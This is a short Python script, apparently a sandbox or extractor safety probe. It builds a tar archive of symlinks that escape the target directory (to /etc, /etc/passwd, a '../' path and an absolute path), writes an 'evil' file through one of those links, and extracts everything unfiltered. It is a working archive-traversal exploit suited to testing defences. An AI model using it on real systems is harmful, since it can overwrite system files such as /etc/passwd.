# An archive whose entries are links out of the directory, unpacked here; and the archive itself.
import io
import os
import sys
import tarfile

with tarfile.open("links.tar", "w") as tar:
    for name, target in (("out", "/etc"), ("host", sys.argv[1]), ("../up", "/etc/passwd"), ("/abs", "/etc/passwd")):
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname = tarfile.SYMTYPE, target
        tar.addfile(entry)
    entry = tarfile.TarInfo("out/passwd")
    entry.size = 4
    tar.addfile(entry, io.BytesIO(b"evil"))
with tarfile.open("links.tar") as tar:
    for entry in tar:
        try:
            tar.extract(entry, "/box/unpacked")
        except OSError:
            pass
print("tried", os.listdir("/box/unpacked"))
